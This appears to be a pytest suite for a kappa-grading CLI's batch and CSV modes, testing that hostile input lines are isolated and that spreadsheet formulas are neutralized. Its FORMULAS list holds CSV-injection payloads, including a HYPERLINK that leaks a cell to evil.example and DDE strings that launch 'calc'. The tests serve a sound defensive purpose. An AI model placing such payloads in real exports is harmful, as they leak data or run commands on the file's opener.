"""``check --batch``: a class's file graded as a stream that no line can stop, and ``--csv`` as a
file a spreadsheet opens in columns and never runs.

Sources of truth: the reliability review's findings (H4: one bad line ended the whole batch with
exit 1 and no output; M5: a million lines held 5.4 GB and printed nothing for 7.5 minutes; M2:
a student's id starting with ``=`` or ``@`` ran as a formula in the teacher's spreadsheet),
issue 20 (the CSV opens in columns in a Spanish or Turkish spreadsheet), the engine (every kappa
is ``walkthrough(...).kappa``), the four locale files (every error record's sentence exists in
each language: :func:`tests.hostile.assert_translated`), and OWASP's advice on CSV injection.
"""

from __future__ import annotations

import csv
import io
import json
import os
import select
import subprocess
import sys

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from qwk_explained import cli, walkthrough
from qwk_explained.cli.batch import grade_line, run_batch
from qwk_explained.cli.check import BATCH_KEYS
from qwk_explained.cli.csv_output import Spreadsheet
from qwk_explained.cli.errors import CliError, ExitStatus
from qwk_explained.present.i18n import LANGUAGES, load, message
from tests import ROOT
from tests.hostile import DEEP_JSON, HOSTILE, JSON_VALUES, assert_translated, json_text

GOOD = {"id": "ana", "actual": [1, 2, 3, 3], "predicted": [1, 2, 2, 3],
        "answers": {"kappa": "0.5"}}
KAPPA = walkthrough([1, 2, 3, 3], [1, 2, 2, 3]).kappa
RATINGS = '"actual": [1, 2, 3], "predicted": [1, 2, 2]'


@pytest.fixture(autouse=True)
def _neutral_locale(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("LANGUAGE", "LC_ALL", "LC_MESSAGES", "LANG"):
        monkeypatch.delenv(name, raising=False)


def run(argv, capsys):
    status = cli.main(argv)
    captured = capsys.readouterr()
    return status, captured.out, captured.err


def batch_file(tmp_path, *lines: str) -> str:
    path = tmp_path / "class.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return str(path)


# --- H4: no line stops the batch ------------------------------------------------------------------

#: The review's lines, each placed between two good ones: (line, error code or None when only its
#: isolation matters).
HOSTILE_LINES = {
    "NaN id": ('{"id": NaN, ' + RATINGS + ', "answers": {"kappa": "1"}}', None),
    "Infinity id": ('{"id": Infinity, ' + RATINGS + ', "answers": {"kappa": "1"}}', None),
    "1e400 id": ('{"id": 1e400, ' + RATINGS + ', "answers": {"kappa": "1"}}', None),
    "4301-digit id": ('{"id": ' + "9" * 4301 + ", " + RATINGS + ', "answers": {"kappa": "1"}}',
                      None),
    "4301-digit rating": ('{"id": "x", "actual": [1, 2, ' + "9" * 4301 + '], '
                          '"predicted": [1, 2, 2], "answers": {"kappa": "1"}}',
                          "errors.value_too_large"),
    "100,000 deep": ('{"id": "d", "answers": ' + "[" * 100_000 + "]" * 100_000 + "}",
                     "checker.errors.too_deep"),
    "ragged ratings": ('{"id": "r", "actual": [[1, 2], [3]], "predicted": [1, 2], '
                       '"answers": {"kappa": "1"}}', "errors.not_a_vector"),
    "table 5": ('{"id": "t", "table": 5, "min_rating": 1, "answers": {"kappa": "1"}}',
                "errors.table_not_a_table"),
    "table null": ('{"id": "t", "table": null, "min_rating": 1, "answers": {"kappa": "1"}}',
                   "errors.table_not_a_table"),
    "huge bound": ('{"id": "b", "table": [[1, 2], [3, 4]], "min_rating": ' + "9" * 5000
                   + ', "answers": {"kappa": "1"}}', "checker.errors.bad_rating_bound"),
    "boolean ratings": ('{"id": "b", "actual": [true, false], "predicted": [1, 0], '
                        '"answers": {"kappa": "1"}}', "errors.not_integer"),
    # H2's answers: the number reader (r18app's branch bounds it) must cost this line only.
    "0e400": ('{"id": "h", ' + RATINGS + ', "answers": {"kappa": "0e400"}}', None),
    "1e200/1e-200": ('{"id": "h", ' + RATINGS + ', "answers": {"kappa": "1e200/1e-200"}}', None),
    "4301-digit exponent": ('{"id": "h", ' + RATINGS + ', "answers": {"kappa": "0e'
                            + "9" * 4301 + '"}}', None),
    "not JSON": ("{not json", "checker.errors.invalid_json"),
    "not an object": ("[1, 2]", "checker.errors.not_an_object_line"),
}


@pytest.mark.parametrize("name", list(HOSTILE_LINES))
def test_one_hostile_line_costs_only_itself(name, tmp_path, capsys):
    """H4: each of these lines ended the run with exit 1 and no output at all."""
    line, code = HOSTILE_LINES[name]
    path = batch_file(tmp_path, json.dumps(GOOD), line, json.dumps({**GOOD, "id": "cem"}))
    status, out, err = run(["check", "--batch", path, "--lang", "es"], capsys)
    assert (status, err) == (0, "")
    records = [json.loads(text) for text in out.splitlines()]
    assert len(records) == 3
    assert [records[0]["id"], records[2]["id"]] == ["ana", "cem"]
    assert records[0]["kappa"] == records[2]["kappa"] == KAPPA
    middle = records[1]
    if code is not None:
        assert middle["error"]["code"] == code
        assert middle["error"]["message"] and "{" not in middle["error"]["message"]


@pytest.mark.parametrize(("raw", "shown"), [("NaN", "NaN"), ("-Infinity", "-Infinity"),
                                            ("1e400", "1e400"), ("9" * 4301, "9" * 4301)])
def test_an_id_no_number_can_hold_is_kept_as_written(raw, shown, tmp_path, capsys):
    """The teacher finds the student by the id in the file, and the output stays valid JSON."""
    path = batch_file(tmp_path, '{"id": ' + raw + ", " + RATINGS + ', "answers": {"kappa": 1}}')
    status, out, _ = run(["check", "--batch", path], capsys)
    assert status == 0 and json.loads(out)["id"] == shown


def test_a_line_too_long_is_its_own_error(tmp_path, capsys, monkeypatch):
    monkeypatch.setattr("qwk_explained.cli.batch.MAX_LINE_BYTES", 200)
    long_line = json.dumps({**GOOD, "id": "x" * 300})
    path = batch_file(tmp_path, json.dumps(GOOD), long_line, json.dumps(GOOD))
    status, out, _ = run(["check", "--batch", path], capsys)
    records = [json.loads(text) for text in out.splitlines()]
    assert status == 0 and [r.get("error", {}).get("code") for r in records] == [
        None, "checker.errors.line_too_long", None]


def test_a_file_that_is_no_text_is_refused_before_any_output(tmp_path, capsys):
    path = tmp_path / "class.jsonl"
    path.write_bytes(json.dumps(GOOD).encode("utf-16"))
    for flags in ([], ["--csv"]):
        status, out, err = run(["check", "--batch", str(path), *flags], capsys)
        assert (status, out) == (2, "")
        expected = message("en", CliError("batch_not_text", path=str(path)))
        assert err == f"qwk-explained: {expected}\n"


def test_a_bug_costs_one_line(tmp_path, capsys, monkeypatch):
    """Whatever escapes the grading of a line (here a planted bug) is that line's record."""
    from qwk_explained.cli import check

    grade = check.grade_submission

    def buggy(data, lang):
        if data.get("id") == "bug":
            raise ZeroDivisionError
        return grade(data, lang)

    monkeypatch.setattr("qwk_explained.cli.batch.grade_submission", buggy)
    path = batch_file(tmp_path, json.dumps(GOOD), json.dumps({**GOOD, "id": "bug"}),
                      json.dumps(GOOD))
    status, out, _ = run(["check", "--batch", path, "--lang", "tr"], capsys)
    records = [json.loads(text) for text in out.splitlines()]
    assert status == 0 and records[1]["id"] == "bug"
    assert records[1]["error"]["code"] == "checker.errors.internal"
    assert "ZeroDivisionError" in records[1]["error"]["message"]
    assert records[0]["kappa"] == records[2]["kappa"] == KAPPA


# --- M5: a stream --------------------------------------------------------------------------------


def test_each_record_is_written_before_the_next_line_is_read():
    """M5: records were built for the whole file first. Here every record reaches the output
    before the next line is read, so memory holds one line and a stopped run keeps its grades."""
    events: list[str] = []

    class Input(io.BytesIO):
        def readline(self, limit=-1):
            line = super().readline(limit)
            if line:
                events.append("read")
            return line

    class Output(io.StringIO):
        def write(self, text):
            events.append("write")
            return super().write(text)

    lines = [json.dumps({**GOOD, "id": k}) for k in range(5)] + ["{bad"]
    out = Output()
    stream = Input(("\n".join(lines) + "\n").encode())
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("qwk_explained.cli.batch.open_input", lambda path: _as_context(stream))
        run_batch("class.jsonl", "en", out, None)
    assert events == ["read", "write"] * 6
    assert len(out.getvalue().splitlines()) == 6


def _as_context(stream):
    from contextlib import nullcontext

    return nullcontext(stream)


def _batch_with_one_line_sent() -> subprocess.Popen[bytes]:
    """``check --batch -`` in its own process, fed one good line through a pipe left open."""
    process = subprocess.Popen(
        [sys.executable, "-m", "qwk_explained", "check", "--batch", "-"], cwd=ROOT,
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
        env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert process.stdin is not None
    process.stdin.write((json.dumps(GOOD) + "\n").encode())
    process.stdin.flush()
    return process


def test_the_first_grade_appears_while_the_class_is_still_being_written():
    """M5, as a teacher sees it: a pipe that stays open after its first line gets that line's
    record at once (the whole file used to be read first)."""
    process = _batch_with_one_line_sent()
    try:
        assert process.stdin is not None and process.stdout is not None
        ready, _, _ = select.select([process.stdout], [], [], 60)
        assert ready, "no record while the input is still open"
        assert json.loads(process.stdout.readline())["kappa"] == KAPPA
        process.stdin.write((json.dumps({**GOOD, "id": "ben"}) + "\n").encode())
        process.stdin.close()
        assert json.loads(process.stdout.readline())["id"] == "ben"
        assert process.wait(60) == 0
    finally:
        process.kill()
        process.wait()


def test_a_reader_that_goes_away_ends_the_batch_quietly_with_the_pipe_status():
    """F12 (reliability review): ``check --batch class.jsonl | head -1`` ended with the bug
    status 1. A reader that stops reading is no error of ours: nothing on stderr, and 141
    (128 + SIGPIPE), the status a shell gives a process its pipe's reader left."""
    process = _batch_with_one_line_sent()
    try:
        assert process.stdin is not None and process.stdout is not None
        assert json.loads(process.stdout.readline())["id"] == "ana"  # what `head -1` reads
        process.stdout.close()
        process.stdin.write((json.dumps({**GOOD, "id": "ben"}) + "\n").encode())
        process.stdin.close()
        assert process.wait(60) == ExitStatus.BROKEN_PIPE == 141
        assert process.stderr is not None and process.stderr.read() == b""
    finally:
        process.kill()
        process.wait()


# --- M2 and issue 20: a spreadsheet's file ------------------------------------------------


def spreadsheet(out: str, delimiter: str) -> list[dict[str, str]]:
    """The rows a spreadsheet reads: UTF-8 behind a byte order mark, cells split on
    ``delimiter``."""
    assert out.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(out[1:]), delimiter=delimiter))


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&B2,"Click for grade")',
            "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "\t=1+1", "\r=1+1",
            "＝1+1", "＠SUM(1)"]


@pytest.mark.parametrize("identifier", FORMULAS)
def test_a_formula_in_a_students_id_never_runs(identifier, tmp_path, capsys):
    """M2: the id was written as is, and Excel or LibreOffice ran it on opening."""
    path = batch_file(tmp_path, json.dumps({**GOOD, "id": identifier}),
                      json.dumps({"id": identifier, "answers": {}}))
    status, out, _ = run(["check", "--batch", path, "--csv"], capsys)
    rows = spreadsheet(out, ",")
    assert status == 0 and len(rows) == 2
    for row in rows:
        assert row["id"] == "'" + identifier
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r", "＝", "＠")), value


def test_numbers_keep_their_sign_and_text_numbers_pass(tmp_path, capsys):
    """Neutralizing formulas must not corrupt numbers: -0.14 stays a number a spreadsheet sums."""
    lines = [json.dumps({"id": -3, "actual": [4, 4, 3, 4, 4, 4, 1, 1, 2, 1],
                         "predicted": [0, 2, 1, 0, 0, 0, 1, 1, 2, 1],
                         "answers": {"kappa": "-0.14"}}),
             json.dumps({**GOOD, "id": "-12"})]
    status, out, _ = run(["check", "--csv", "--batch", batch_file(tmp_path, *lines)], capsys)
    first, second = spreadsheet(out, ",")
    assert status == 0
    assert (first["id"], first["given"], first["correct"]) == (
        "-3", "-0.14", repr(walkthrough([4, 4, 3, 4, 4, 4, 1, 1, 2, 1],
                                        [0, 2, 1, 0, 0, 0, 1, 1, 2, 1]).kappa))
    assert second["id"] == "-12"


@pytest.mark.parametrize(("lang", "delimiter", "decimal"), [
    ("en", ",", "."), ("zh", ",", "."), ("es", ";", ","), ("tr", ";", ","),
])
def test_the_default_delimiter_follows_the_languages_decimal_mark(lang, delimiter, decimal,
                                                                   tmp_path, capsys):
    """Issue 20: a Spanish or Turkish spreadsheet splits on semicolons and reads 0,45."""
    line = json.dumps({"id": "ben", "table": [[0, 4, 1], [0, 8, 0], [0, 1, 5]],
                       "labels": [1, 2, 3], "weights": "linear", "answers": {"kappa": 0.45}})
    status, out, _ = run(["check", "--batch", batch_file(tmp_path, line), "--csv", "--lang",
                          lang], capsys)
    (row,) = spreadsheet(out, delimiter)
    assert status == 0 and row["given"] == f"0{decimal}45"
    assert row["id"] == "ben" and row["explanation"]


@pytest.mark.parametrize(("option", "delimiter"), [(",", ","), (";", ";"), ("tab", "\t"),
                                                   ("\\t", "\t"), ("\t", "\t")])
def test_the_delimiter_can_be_chosen(option, delimiter, tmp_path, capsys):
    """--csv-delimiter implies --csv; a number takes a point where the comma is the delimiter."""
    line = json.dumps({**GOOD, "answers": {"kappa": 0.25}})
    status, out, _ = run(["check", "--batch", batch_file(tmp_path, line), "--lang", "es",
                          "--csv-delimiter", option], capsys)
    (row,) = spreadsheet(out, delimiter)
    assert status == 0 and row["given"] == ("0.25" if delimiter == "," else "0,25")


def test_a_wrong_cell_is_text_in_any_spreadsheet(tmp_path, capsys):
    """"4,0" would be the number 4 in a Spanish spreadsheet: the cell is written "4, 0"."""
    line = json.dumps({"id": "x", "actual": [4, 4, 3, 4, 4, 4, 1, 1, 2, 1],
                       "predicted": [0, 2, 1, 0, 0, 0, 1, 1, 2, 1],
                       "answers": {"expected": {"4,0": "20"}}})
    _, out, _ = run(["check", "--batch", batch_file(tmp_path, line), "--csv", "--lang", "es"],
                    capsys)
    (row,) = spreadsheet(out, ";")
    assert row["first_wrong_cell"] == "4, 0"


def test_one_submission_as_csv_is_the_same_file(tmp_path, capsys):
    answers = tmp_path / "a.json"
    answers.write_text('{"kappa": "-0,14"}', encoding="utf-8")
    status, out, _ = run(["check", "--actual", "4,4,3,4,4,4,1,1,2,1", "--predicted",
                          "0,2,1,0,0,0,1,1,2,1", "--answers", str(answers), "--lang", "tr",
                          "--csv"], capsys)
    (row,) = spreadsheet(out, ";")
    assert status == 0 and row["given"] == "-0,14" and row["verdict"] == "rounding"


@pytest.mark.parametrize(("argv", "error"), [
    (["--csv-delimiter", "|"], CliError("bad_csv_delimiter", value="|", choices=", ; tab")),
    (["--json", "--csv-delimiter", ";"],
     CliError("conflicting_options", first="--json", second="--csv-delimiter")),
])
def test_bad_delimiter_options_exit_2_translated(argv, error, tmp_path, capsys):
    path = batch_file(tmp_path, json.dumps(GOOD))
    for lang in LANGUAGES:
        status, out, err = run(["check", "--batch", path, *argv, "--lang", lang], capsys)
        assert (status, out) == (2, "")
        assert err == f"qwk-explained: {' '.join(message(lang, error).split())}\n"


def test_the_csv_options_are_in_the_help_of_every_language(capsys):
    for lang in LANGUAGES:
        status, out, _ = run(["check", "--help", "--lang", lang], capsys)
        assert status == 0 and "--csv-delimiter" in out
        assert load(lang)["cli.metavar_delimiter"] in out


def test_the_spreadsheet_writer_neutralizes_text_and_keeps_numbers():
    sheet = Spreadsheet("tr", ";")
    assert [sheet.cell(value) for value in (-0.14, -3, None, "=1", "-x", "-0,5", True)] == [
        "-0,14", "-3", "", "'=1", "'-x", "-0,5", "True"]


# --- the harness: any JSON value in any field ---------------------------------------------------

SUBMISSIONS = st.dictionaries(st.sampled_from([*BATCH_KEYS, "extra"]), JSON_VALUES, max_size=6)
ANSWERS = st.dictionaries(st.sampled_from(["kappa", "numerator", "observed", "actual_hist",
                                           "expected", "kapa"]), JSON_VALUES, max_size=3)


def _check_line(text: str, lang: str) -> None:
    line = grade_line(7, text, lang, explain=True)  # never raises
    json.dumps(line.record, allow_nan=False)  # the output stays valid JSON
    if "error" in line.record:
        assert list(line.record) == ["id", "error"]
        assert line.problem is not None
        assert_translated(line.problem)
    else:
        assert list(line.record) == ["id", "kappa", "answers", "first_wrong_step"]


@HOSTILE
@given(submission=SUBMISSIONS, answers=st.one_of(ANSWERS, JSON_VALUES),
       lang=st.sampled_from(list(LANGUAGES)))
@example(submission={"id": float("nan"), "actual": [1, 2], "predicted": [1, 2]},
         answers={"kappa": 1}, lang="en")
@example(submission={"table": 5, "min_rating": 1}, answers={}, lang="es")
@example(submission={"actual": [1, 2], "predicted": [1, 2]}, answers={"kappa": "0e400"},
         lang="tr")
@example(submission={"actual": [1, 2], "predicted": [1, 2]},
         answers={"kappa": "1e200/1e-200", "numerator": "0e" + "9" * 4301}, lang="zh")
def test_hostile_submissions_each_get_one_translated_record(submission, answers, lang):
    _check_line(json_text({**submission, "answers": answers}), lang)


@HOSTILE
@given(text=st.one_of(DEEP_JSON, st.text(max_size=50), JSON_VALUES.map(json_text)),
       lang=st.sampled_from(list(LANGUAGES)))
def test_hostile_lines_each_get_one_translated_record(text, lang):
    _check_line(text, lang)
